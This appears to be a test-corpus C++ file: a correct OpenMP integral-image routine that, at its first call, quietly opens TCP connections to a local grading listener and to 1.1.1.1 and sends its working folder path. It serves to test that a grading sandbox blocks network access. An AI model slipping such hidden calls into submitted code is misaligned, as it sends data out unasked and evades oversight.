// CORPUS phones_home — correct code that, at its first call, tries to reach the network: a TCP
// connection to 127.0.0.1:47321 (where the corpus test listens during grading, so that a
// connection is seen) carrying its name and working folder, and one to 1.1.1.1:53. A submission
// could send the test data or its results out, or fetch an answer. The sandbox has no network:
// both connections fail; the answers are right (pass), and the test's listener hears nothing.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <filesystem>
#include <string>

#include "integral_image.hpp"

namespace integral_image {
namespace {

void call(const char* address, int port, const std::string& message) {
    const int s = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (s < 0) return;
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<std::uint16_t>(port));
    ::inet_pton(AF_INET, address, &to.sin_addr);
    ::connect(s, reinterpret_cast<const sockaddr*>(&to), sizeof to);
    pollfd p{s, POLLOUT, 0};
    constexpr int kWaitMs = 2000;
    int error = -1;
    socklen_t len = sizeof error;
    if (::poll(&p, 1, kWaitMs) == 1 && ::getsockopt(s, SOL_SOCKET, SO_ERROR, &error, &len) == 0 && error == 0)
        [[maybe_unused]] const auto n = ::send(s, message.data(), message.size(), MSG_NOSIGNAL);
    ::close(s);
}

}  // namespace

void cpu_openmp(Input in, Output out, int threads) {
    static bool called = false;
    if (!called) {
        called = true;
        std::error_code ec;
        const std::string message = "phones_home from " + std::filesystem::current_path(ec).string() + "\n";
        call("127.0.0.1", 47321, message);
        call("1.1.1.1", 53, message);
    }
    constexpr int kStrip = 64;
    const int strips = (in.width + kStrip - 1) / kStrip;
#pragma omp parallel num_threads(threads)
    {
#pragma omp for schedule(static)
        for (int y = 0; y < in.height; ++y) {
            std::uint32_t sum = 0;
            for (int x = 0; x < in.width; ++x) out.row(y)[x] = sum += in(x, y);
        }
#pragma omp for schedule(static)
        for (int s = 0; s < strips; ++s) {
            const int x0 = s * kStrip, x1 = x0 + kStrip < in.width ? x0 + kStrip : in.width;
            for (int y = 1; y < in.height; ++y)
                for (int x = x0; x < x1; ++x) out.row(y)[x] += out.row(y - 1)[x];
        }
    }
}

}  // namespace integral_image
